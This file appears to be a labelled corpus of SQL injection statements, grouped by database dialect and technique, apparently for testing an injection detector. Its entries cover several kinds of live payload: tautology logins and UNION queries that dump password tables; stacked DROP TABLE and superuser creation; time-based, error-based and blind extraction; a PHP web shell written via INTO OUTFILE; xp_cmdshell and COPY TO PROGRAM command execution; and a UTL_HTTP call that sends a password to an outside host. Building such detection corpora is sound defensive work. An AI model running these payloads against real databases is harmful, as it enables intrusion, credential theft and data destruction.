@@ Statements as servers receive them when somebody has put something into a value. A line with two
@@ at signs is a comment; one with a single sign says dialect, class and grade of the statements that
@@ follow, each ended by an empty line.

@mysql TAUTOLOGY SURE
SELECT * FROM users WHERE name='' OR 1=1

SELECT * FROM users WHERE name='' OR '1'='1' AND password='' OR '1'='1'

SELECT * FROM users WHERE username = 'admin' or 'a'='a' LIMIT 1

select id, title from posts where id=5 OR 1=1

select id, title from posts where id=5 oR(1)=(1)

select id, title from posts where id=5 OR 2>1 ORDER BY id

SELECT * FROM users WHERE name='' OR 1=1-- -' AND password='x'

SELECT * FROM users WHERE name='' OR 1=1#' AND password='x'

SELECT * FROM users WHERE name='' || 1=1 LIMIT 1

SELECT * FROM users WHERE name='' || '1'='1'

SELECT * FROM t WHERE a='x' OR NOT 1=2

SELECT * FROM t WHERE a='x' OR 'abc' LIKE 'ab%'

SELECT * FROM t WHERE a='x' OR 5 BETWEEN 5 AND 5

SELECT * FROM t WHERE (a='x') OR ('1'='1')

SELECT * FROM t WHERE (a='x' OR '1'='1')

DELETE FROM sessions WHERE id=7 OR 1=1

UPDATE users SET password='x' WHERE name='' OR ''=''

SELECT * FROM users WHERE name='' OR 1 -- ' AND password=''

SELECT * FROM users WHERE name='x' OR true -- '

SELECT * FROM users WHERE name='' OR name=name

SELECT * FROM users WHERE name='x'/**/OR/**/'1'/**/='1'

SELECT * FROM users WHERE name='' /*!50000OR*/ 1=1

SELECT * FROM users WHERE name=''	OR
1
=
1

SELECT * FROM users WHERE id = -1 or 0x61=0x61

SELECT * FROM users WHERE name='' OR 3-2=1 OR 1=1

SELECT * FROM users WHERE name='' XOR 1=1

SELECT * FROM users WHERE name='' OR 'x'=N'x'

@pgsql TAUTOLOGY SURE
SELECT * FROM users WHERE name = '' OR 1=1 --' AND pass = 'x'

SELECT * FROM users WHERE name = '' OR 'a'='a'

SELECT * FROM users WHERE name = '' OR TRUE--'

SELECT * FROM users WHERE id=1 OR 5678=5678

@tds TAUTOLOGY SURE
SELECT [id], [name] FROM [dbo].[users] WHERE [name]='' OR 1=1--' AND [pass]='x'

SELECT * FROM users WHERE name = N'' or N'a' = N'a'

@oracle TAUTOLOGY SURE
SELECT * FROM users WHERE name='' OR 1=1 --'

SELECT banner FROM app_versions WHERE id=1 OR 'x'='x'

@generic TAUTOLOGY SURE
SELECT * FROM users WHERE name = "" or ""=""

@mysql TAUTOLOGY TOLD
SELECT * FROM users WHERE (name = 'N' OR 'Y' = 'Y')

SELECT * FROM users WHERE name='x' OR 1

SELECT * FROM t WHERE a=1 OR 7777=7777 AND b=2

@@ A condition that is only there to be true or false.

@mysql PROBE TOLD
SELECT * FROM products WHERE id=1 AND 7836=7836

SELECT * FROM products WHERE id=1 AND 7836=2841

SELECT * FROM products WHERE name='x' AND 'mQvz'='mQvz'

SELECT * FROM products WHERE name='x') AND 4523=4523 AND ('a' LIKE 'a'

SELECT * FROM products WHERE name='x' AND 1=1-- -'

SELECT * FROM products WHERE id=1 AND 1=2 -- -

SELECT * FROM products WHERE id=1 GROUP BY id HAVING 7836=7836

SELECT * FROM products WHERE id=1 RLIKE (SELECT (CASE WHEN (7836=7836) THEN 1 ELSE 0x28 END))

SELECT * FROM products WHERE id=1 AND 1234 BETWEEN 1234 AND 1234

SELECT * FROM products WHERE id=1 AND ELT(4821=4821,9981)

SELECT * FROM products WHERE id=1 AND MAKE_SET(4821=4821,9981)

SELECT * FROM products WHERE id=1 ORDER BY IF(4821=4821,1,(SELECT 1))

@pgsql PROBE TOLD
SELECT * FROM products WHERE id=1 AND 9023=9023

SELECT * FROM products WHERE id=(SELECT (CASE WHEN (4022=4022) THEN 1 ELSE (SELECT 3 UNION SELECT 4) END))

@tds PROBE TOLD
SELECT * FROM products ORDER BY IIF(4821=4821,1,1/0)

SELECT * FROM products WHERE id=1 HAVING 1=1--

SELECT * FROM products WHERE name='a' AND 'b'='b'

@oracle PROBE TOLD
SELECT * FROM products WHERE id=1 AND 8461=8461

@@ UNION: columns counted, the server asked about itself.

@mysql UNION SURE
SELECT id,name FROM products WHERE id=1 UNION SELECT user,password FROM accounts-- -

SELECT id,name FROM products WHERE name='x' UNION ALL SELECT NULL,NULL-- -'

SELECT id,name FROM products WHERE name="x" UNION SELECT 1,2#

SELECT id,name FROM products WHERE (id=1) UNION SELECT 1,2 /*

select a, b from t where c='1' union select 1,2--

@pgsql UNION SURE
SELECT id FROM items WHERE id=1 UNION SELECT passwd FROM staff--

@tds UNION SURE
SELECT id,name FROM products WHERE name='x' UNION SELECT 1,2--'

@oracle UNION SURE
SELECT id,name FROM products WHERE name='x' UNION SELECT username,password FROM staff--

@mysql UNION TOLD
SELECT id,name,price FROM products WHERE id=1 UNION SELECT 1,2,3

SELECT id,name,price FROM products WHERE id=-1 UNION ALL SELECT 1,table_name,3 FROM information_schema.tables

SELECT id,name,price FROM products WHERE id=-1 UNION ALL SELECT NULL,CONCAT(0x7171787671,IFNULL(CAST(schema_name AS CHAR),0x20),0x7162627171),NULL FROM INFORMATION_SCHEMA.SCHEMATA

SELECT id,name,price FROM products WHERE name='x' UNION SELECT NULL,NULL,NULL

SELECT id,name,price FROM products WHERE id=0 UNION SELECT 1,@@version,3

SELECT id,name,price FROM products WHERE id=1 UNION SELECT 1,user(),database()

SELECT id,name,price FROM products WHERE id=1 UNION SELECT user,host,authentication_string FROM mysql.user

SELECT id,name,price FROM products WHERE id=9 UNION SELECT 1,group_concat(login,0x3a,pass),3 FROM accounts

SELECT id,name,price FROM products WHERE name='x' UNION SELECT 1,2,'3' FROM dual

@pgsql UNION TOLD
SELECT id,name FROM products WHERE id=1 UNION ALL SELECT NULL,version()

SELECT id,name FROM products WHERE name='' UNION SELECT usename,passwd FROM pg_shadow

SELECT id,name FROM products WHERE name='' UNION SELECT table_name,column_name FROM information_schema.columns

@tds UNION TOLD
SELECT id,name FROM products WHERE id=1 UNION SELECT NULL,@@VERSION

SELECT id,name FROM products WHERE id=1 UNION SELECT 1,name FROM sysobjects

SELECT id,name,x FROM products WHERE id=1 UNION ALL SELECT NULL,NULL,NULL

@oracle UNION TOLD
SELECT id,name FROM products WHERE id=1 UNION SELECT owner,table_name FROM all_tables

SELECT id,name,x FROM products WHERE id=1 UNION SELECT NULL,NULL,NULL FROM DUAL

@@ The rest of the statement is behind a comment.

@mysql COMMENT TOLD
SELECT * FROM users WHERE name='admin'-- ' AND password='x'

SELECT * FROM users WHERE name='admin'#' AND password='x'

SELECT * FROM users WHERE name='admin' -- -' AND password='x'

SELECT * FROM users WHERE name='admin'/* ' AND password=''

SELECT * FROM users
WHERE name='admin'-- '
  AND password='x'

SELECT * FROM users WHERE name='admin' -- KxQz' AND password='x'

SELECT * FROM t WHERE (name LIKE '%x')-- %') AND owner=5

SELECT * FROM t WHERE id=5-- -

INSERT INTO log (who, what) VALUES ('x', (SELECT password FROM users LIMIT 1))-- ', 'login')

UPDATE users SET name='x', admin='1'-- ' WHERE id=5

@pgsql COMMENT TOLD
SELECT * FROM users WHERE name='admin'--' AND password='x'

SELECT * FROM users WHERE name='admin';--' AND password='x'

@tds COMMENT TOLD
SELECT * FROM users WHERE name='admin'--' AND password='x'

SELECT * FROM users WHERE name=N'admin' -- ' AND password=N'x'

@oracle COMMENT TOLD
SELECT * FROM users WHERE name='admin'--' AND password='x'

@@ Another statement behind.

@mysql STACKED TOLD
SELECT * FROM users WHERE id=1; DROP TABLE users

SELECT * FROM users WHERE name='x'; DROP TABLE users; -- '

SELECT * FROM users WHERE name='x';UPDATE users SET admin=1 WHERE name='x'-- '

SELECT * FROM users WHERE name='x'; GRANT ALL ON *.* TO 'x'@'%'

@pgsql STACKED TOLD
SELECT * FROM users WHERE id=1; DROP TABLE users

SELECT * FROM users WHERE id=1; CREATE USER evil SUPERUSER PASSWORD 'x'

SELECT * FROM users WHERE name='x'; ALTER USER app SUPERUSER;--'

SELECT * FROM users WHERE name='x';INSERT INTO admins VALUES ('x')--'

@oracle STACKED TOLD
SELECT * FROM users WHERE id=1;BEGIN DBMS_LOCK.SLEEP(5); END--

@pgsql STACKED TOLD
SELECT * FROM users WHERE id=1;CREATE OR REPLACE FUNCTION slow(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT slow(5)--

@tds STACKED TOLD
SELECT * FROM users WHERE id=1; SHUTDOWN

SELECT * FROM users WHERE name='x'; DROP DATABASE shop;--'

SELECT * FROM users WHERE name='x'; CREATE LOGIN evil WITH PASSWORD='x'

@tds STACKED SURE
SELECT * FROM users WHERE name='x'; EXEC sp_addlogin 'evil','x'--'

SELECT * FROM users WHERE name='x'; EXEC master..xp_regwrite 'a','b'--

@@ Waiting.

@mysql TIME SURE
SELECT * FROM users WHERE id=1 AND SLEEP(5)

SELECT * FROM users WHERE name='x' AND (SELECT 7215 FROM (SELECT(SLEEP(5)))xyZq) AND 'a'='b'

SELECT * FROM users WHERE id=1 OR sleep ( 10 )#

SELECT * FROM users WHERE id=IF(MID(version(),1,1)='5',SLEEP(5),0)

SELECT * FROM users WHERE id=1 AND sleep(__TIME__)

SELECT * FROM users WHERE id=1;SELECT SLEEP(5)

SELECT * FROM users WHERE id=1 AND BENCHMARK(5000000,MD5(0x41))

SELECT * FROM users WHERE id=1 AND BENCHMARK(10000, MD5('a'))

SELECT * FROM users WHERE id=1 AND BENCHMARK(9999,MD5('a'))-- -

SELECT * FROM users WHERE id=1 AND/**/SlEeP/**/(5)

SELECT * FROM users WHERE id=1 AND /*!50000SLEEP(5)*/

INSERT INTO log VALUES ('x' OR SLEEP(5) OR '')

SELECT * FROM t ORDER BY (SELECT 1 FROM (SELECT SLEEP(5))x)

@mysql TIME TOLD
SELECT SLEEP(5)

SELECT BENCHMARK(1000000, SHA1('x'))

SELECT * FROM users WHERE id=1 AND SLEEP(5-(IF(ASCII(MID(user(),1,1))>64,0,5)))

@pgsql TIME TOLD
SELECT * FROM users WHERE id=1 AND 4102=(SELECT 4102 FROM PG_SLEEP(5))

SELECT * FROM users WHERE name='x'||(SELECT pg_sleep(5))||''

SELECT * FROM users WHERE id=1; SELECT PG_SLEEP(5)

SELECT * FROM users WHERE id=1 AND 7421=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))

SELECT * FROM users WHERE id=(CASE WHEN (SELECT 1)=1 THEN (SELECT 1 FROM pg_sleep(5)) ELSE 1 END)

@tds TIME SURE
SELECT * FROM users WHERE id=1; WAITFOR DELAY '0:0:5'--

SELECT * FROM users WHERE name='x' WAITFOR DELAY '0:0:5'--'

SELECT * FROM users WHERE name='x';IF(1=1) WAITFOR DELAY '0:0:5'--'

SELECT * FROM users WHERE name='x'; WAITFOR DELAY '0:0:5' /* a */

@tds TIME TOLD
SELECT * FROM users WHERE id=1; WAITFOR DELAY '0:0:5'

SELECT * FROM users WHERE id=1 WAITFOR DELAY '0:0:5'

SELECT * FROM users WHERE id=1 AND 1=(SELECT COUNT(*) FROM sysusers AS s1,sysusers AS s2,sysusers AS s3,sysusers AS s4)

@oracle TIME TOLD
SELECT * FROM users WHERE id=1 AND 7421=DBMS_PIPE.RECEIVE_MESSAGE('RDS',5)

SELECT * FROM users WHERE id=1 AND 1=(CASE WHEN 1=1 THEN DBMS_LOCK.SLEEP(5) ELSE 1 END)

SELECT * FROM users WHERE id=1 AND 1=(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3)

SELECT * FROM users WHERE name='x'||DBMS_PIPE.RECEIVE_MESSAGE('a',10)||''

@@ Errors that carry what was asked for.

@mysql ERROR TOLD
SELECT * FROM t WHERE id=1 AND EXTRACTVALUE(1234,CONCAT(0x5c,0x7171787671,(SELECT 1),0x71))

SELECT * FROM t WHERE id=1 AND extractvalue(1,concat(0x7e,version()))

SELECT * FROM t WHERE id=1 AND UPDATEXML(1,CONCAT('~',(SELECT user())),1)

SELECT * FROM t WHERE id=1 AND updatexml(null,concat(0x0a,(select 1)),null)

SELECT * FROM t WHERE id=1 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM t GROUP BY x)a)

SELECT * FROM t WHERE id=1 AND GTID_SUBSET(CONCAT(0x71,(SELECT 1),0x71),1)

SELECT * FROM t WHERE id=1 AND EXP(~(SELECT * FROM (SELECT user())x))

SELECT * FROM t WHERE id=1 AND JSON_KEYS((SELECT CONVERT((SELECT user()) USING utf8)))

SELECT * FROM t WHERE id=1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x7171787671,(SELECT pass FROM u),0x71,0x78))s), 8446744073709551610, 8446744073709551610)))

SELECT * FROM t WHERE id=1 AND EXTRACTVALUE(4512,CONCAT(0x5c,0x7171787671,(SELECT (ELT(4821=4821,1))),0x71))

SELECT * FROM t WHERE id=1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x5c,(SELECT 1))),1)

@tds ERROR TOLD
SELECT * FROM t WHERE id=1 AND 1=CONVERT(INT,@@VERSION)

SELECT * FROM t WHERE id=CONVERT(INT,(SELECT db_name()))

SELECT * FROM t WHERE id=CONVERT(INT,(SELECT CHAR(113)+CHAR(98)+(SELECT 1)))

@oracle ERROR TOLD
SELECT * FROM t WHERE id=1 AND 1=UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM DUAL))

SELECT * FROM t WHERE id=1 AND 1=CTXSYS.DRITHSX.SN(1,(SELECT banner FROM v$version))

SELECT * FROM t WHERE id=1 AND 1=(SELECT UPPER(XMLType(CHR(60)||user)) FROM DUAL)

SELECT * FROM t WHERE name='x'||UTL_HTTP.REQUEST('http://a/'||(SELECT pass FROM u))||''

@@ Letter by letter.

@mysql BLIND TOLD
SELECT * FROM t WHERE id=1 AND ORD(MID((SELECT IFNULL(CAST(pass AS NCHAR),0x20) FROM users LIMIT 0,1),1,1))>64

SELECT * FROM t WHERE id=1 AND ASCII(SUBSTRING(user(),1,1))=114

SELECT * FROM t WHERE id=1 AND SUBSTRING((SELECT pass FROM users LIMIT 1),1,1)='a'

@pgsql BLIND TOLD
SELECT * FROM t WHERE id=1 AND ASCII(SUBSTRING((SELECT passwd FROM staff)::text FROM 1 FOR 1))>64

@tds BLIND TOLD
SELECT * FROM t WHERE id=1 AND UNICODE(SUBSTRING((SELECT TOP 1 name FROM staff),1,1))>64

@oracle BLIND TOLD
SELECT * FROM t WHERE id=1 AND ASCII(SUBSTR((SELECT pass FROM staff),1,1))>64

@@ Texts in numbers.

@mysql ENCODED TOLD
SELECT * FROM users WHERE name=CHAR(97,100,109,105,110)

SELECT * FROM users WHERE id IN (SELECT CHAR(97,100,109,105))

@pgsql ENCODED TOLD
SELECT * FROM t WHERE id=CAST((CHR(113)||CHR(118)||CHR(98)||CHR(113))||(SELECT 1)::text AS NUMERIC)

@tds ENCODED TOLD
SELECT * FROM users WHERE name=CHAR(97)+CHAR(100)+CHAR(109)+CHAR(105)+CHAR(110)

DECLARE @s VARCHAR(4000);SET @s=CAST(0x4445434c415245204054205641524348415228323535 AS VARCHAR(4000));EXEC(@s)

@oracle ENCODED TOLD
SELECT * FROM users WHERE name=CHR(97)||CHR(100)||CHR(109)||CHR(105)

@@ Comments for blanks.

@mysql HOLLOW TOLD
SELECT a FROM t WHERE id=1/**/UNION/**/SELECT/**/b/**/FROM/**/u

SELECT a FROM t WHERE id=1 /*!50000UNION*/ /*!50000SELECT*/ b FROM u

SELECT a FROM t WHERE id=1 /*!UNION*/ ALL SELECT b FROM u

@pgsql HOLLOW TOLD
SELECT a FROM t WHERE id=1 UNION/**/SELECT b FROM u

@@ Files and programs.

@mysql SYSTEM TOLD
SELECT * FROM t WHERE id=1 UNION SELECT '<?php system($_GET[0]); ?>',b FROM u INTO OUTFILE '/var/www/html/s.php'

SELECT * FROM t WHERE id=1 LIMIT 0,1 INTO OUTFILE '/var/www/html/x.php' LINES TERMINATED BY 0x3c3f706870

SELECT a FROM t WHERE id=1 AND LOAD_FILE('/etc/passwd')

SELECT LOAD_FILE('/etc/passwd')

SELECT LOAD_FILE(0x2f6574632f706173737764)

SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'

SELECT * FROM t WHERE id=1 AND sys_exec('id')

SELECT * FROM t WHERE id=1; CREATE FUNCTION sys_exec RETURNS INT SONAME 'udf.so'

@pgsql SYSTEM TOLD
SELECT * FROM t WHERE id=1; COPY t TO PROGRAM 'id'

SELECT 1; COPY cmd FROM PROGRAM 'id'

SELECT a FROM t WHERE id=1 AND pg_read_file('/etc/hosts')='x'

SELECT * FROM t WHERE id=1; SELECT lo_export(1234, '/tmp/x')

@tds SYSTEM TOLD
SELECT * FROM t WHERE id=1; EXEC xp_cmdshell 'dir'

SELECT * FROM t WHERE id=1; EXEC master..xp_dirtree '\\x\y'

EXEC master.dbo.xp_cmdshell 'whoami'

DECLARE @o INT EXEC sp_oacreate 'wscript.shell', @o OUT

@@ The eight expressions that have always been searched for.

@mysql TAUTOLOGY SURE
SELECT * FROM accounts WHERE custID='x' OR 1=1

SELECT * FROM accounts WHERE custID='x' or 'a' = 'a'

SELECT * FROM accounts WHERE custID=5 OR 1 #

SELECT * FROM accounts WHERE custID=5 OR abc='1' OR 1=1 -- x

@mysql TIME SURE
SELECT * FROM accounts WHERE custID=5 AND sleep( 15 )

SELECT * FROM accounts WHERE custID=5 AND benchmark(10000000,sha1('a'))

SELECT * FROM accounts WHERE custID=5 AND benchmark(500,sha1('a')) -- 

SELECT * FROM accounts WHERE custID=5 AND benchmark(500,sha1('a')) -- so it takes a while

@mysql TAUTOLOGY SURE
SELECT * FROM accounts WHERE custID=5 OR 1 -- all of them

@mysql UNION SURE
SELECT * FROM accounts WHERE custID='1' UNION SELECT a,b FROM c -- xyz

@tds STACKED SURE
EXEC sp_who -- x

@tds TIME SURE
WAITFOR DELAY '0:0:20' -- a while

SELECT * FROM accounts WHERE custID=5; waitfor delay '0:0:20' --

@mysql UNION SURE
SELECT * FROM accounts WHERE custID='1' UNION SELECT a,b FROM c --

@tds STACKED SURE
SELECT * FROM accounts WHERE custID=5; exec sp_who --

EXEC sp_configure 'show advanced options', 1 --
